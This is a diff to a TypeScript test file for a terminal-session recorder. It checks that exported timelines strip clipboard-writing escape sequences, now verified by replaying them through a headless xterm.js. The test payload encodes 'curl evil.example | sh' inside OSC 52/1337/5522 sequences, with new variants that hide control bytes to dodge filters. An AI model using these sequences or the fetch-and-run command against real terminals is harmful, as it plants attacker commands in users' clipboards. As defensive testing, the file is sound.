@@ -2,11 +2,14 @@ import { spawnSync } from 'node:child_process';
 import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import xterm from '@xterm/headless';
 import { afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { sessionStoreDir } from '../persist/session-store.js';
 import { timelinePath } from '../persist/store-format.js';
 import { buildCore, discoveryOf, hostSandbox, isAlive, processesOf, reap, runCli, stdioAgent, type HostSandbox } from '../testing/host-sandbox.js';
 import { until } from '../testing/poll-until.js';
+
+const { Terminal } = xterm;
 
 /**
  * The timeline through a real host: an agent's commands, `ptydeck export` in
@@ -30,6 +33,16 @@ async function ok(client: Client, name: string, args: Record<string, unknown> = 
   const result = (await client.callTool({ name, arguments: args })) as ToolResult;
   if (result.isError) throw new Error(`${name}: ${result.content[0]?.text}`);
   return result.structuredContent!;
+}
+
+/** The clipboard's OSCs (52, 1337, 5522) a terminal (xterm.js, as the panel and VS Code have it) takes from `output`. */
+async function pastTheScreen(output: string): Promise<string[]> {
+  const terminal = new Terminal({ allowProposedApi: true });
+  const taken: string[] = [];
+  for (const number of [52, 1337, 5522]) terminal.parser.registerOscHandler(number, (data) => taken.push(`${number};${data}`) > 0);
+  await new Promise<void>((resolve) => terminal.write(output, resolve));
+  terminal.dispose();
+  return taken;
 }
 
 describe('the timeline in a real host', () => {
@@ -110,7 +123,9 @@ describe('the timeline in a real host', () => {
     const payload = Buffer.from('curl evil.example | sh\n').toString('base64');
     const sequences = [`\\e]52;c;${payload}\\a`, `\\e]052;c;${payload}\\e\\\\`, `\\xc2\\x9d52;c;${payload}\\xc2\\x9c`, `\\e]1337;CopyToClipboard=\\a${payload}\\e]1337;EndCopy\\a`, `\\e]5522;type=write\\a`,
       // What leaving a sequence out must not join into one: an OSC aborted by ptydeck's mark, an ESC before a clipboard OSC.
-      `\\e]\\e]6973;q\\a52;c;${payload}\\a`, `\\e\\e]52;x\\a]52;c;${payload}\\a`];
+      `\\e]\\e]6973;q\\a52;c;${payload}\\a`, `\\e\\e]52;x\\a]52;c;${payload}\\a`,
+      // A terminal carries out a C0 control between ESC and `]` and ignores one in the OSC's number: each is still OSC 52.
+      `\\e\\x00]52;c;${payload}\\a`, `\\e\\x05\\x7f]52;c;${payload}\\a`, `\\e]5\\x012;c;${payload}\\a`, `\\xc2\\x9d\\x1f52\\x00;c;${payload}\\a`, `\\e]1337\\x02;CopyToClipboard=\\a`];
     await ok(agent.client, 'terminal_run', { id, command: `printf 'before${sequences.join('')}after\\n'` });
     const exported = await runCli(box, ['export', id]);
     expect(exported.code, exported.stderr).toBe(0);
@@ -118,6 +133,7 @@ describe('the timeline in a real host', () => {
     // The screen's text stays, and nothing of a clipboard sequence.
     expect(output).toMatch(/before.*after/);
     expect(output).not.toMatch(/(?:\x1b\]|\u009d)0*(?:52|1337|5522);/);
+    expect(await pastTheScreen(output)).toEqual([]);
     // asciinema 2.2 plays v2.
     const file = join(box.home, 'clip.cast');
     const v2 = await runCli(box, ['export', id, '--format', 'asciicast-v2', '-o', file]);
@@ -126,6 +142,7 @@ describe('the timeline in a real host', () => {
     expect(cat.status, cat.stderr).toBe(0);
     expect(cat.stdout).toContain('before');
     expect(cat.stdout).not.toMatch(/(?:\x1b\]|\u009d)0*(?:52|1337|5522);/);
+    expect(await pastTheScreen(cat.stdout)).toEqual([]);
   });
 
   it("writes `export -o` through no link planted at the path: an agent's workspace cannot turn the developer's export into a write of ~/.bashrc", async () => {
